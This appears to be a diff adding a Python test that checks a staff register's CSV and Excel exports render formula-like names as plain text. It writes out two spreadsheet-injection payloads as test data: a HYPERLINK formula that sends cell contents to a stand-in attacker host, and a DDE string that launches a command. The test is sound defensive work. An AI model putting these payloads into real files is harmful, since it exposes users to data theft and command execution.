@@ -151,3 +151,27 @@ def test_register_page_gives_expiry_dates_in_the_buddhist_era(client, factory, w
     from datetime import timedelta
 
     assert thai_date(local_date(utcnow() + timedelta(days=100)), short=True) in page
+
+
+def test_exports_keep_a_formula_in_a_name_as_text(client, factory):
+    """A name imported as =HYPERLINK(...) opens as text in Excel, never as a live formula."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from tests.conftest import login
+
+    lao = factory.lao()
+    hr = factory.user(lao, "hr")
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    factory.user(lao, "officer", full_name=evil, position="+cmd|' /C calc'!A0")
+    login(client, hr.username)
+    text = client.get(f"/laos/{lao.id}/register.csv").get_data(as_text=True).lstrip("\ufeff")
+    cells = [c for row in list(csv.reader(io.StringIO(text)))[1:] for c in row[:3]]
+    assert "'" + evil in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
+    sheet = load_workbook(io.BytesIO(client.get(f"/laos/{lao.id}/register.xlsx").data)).active
+    names = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert evil in [c.value for c in names]
+    assert "f" not in {c.data_type for row in sheet.iter_rows() for c in row}
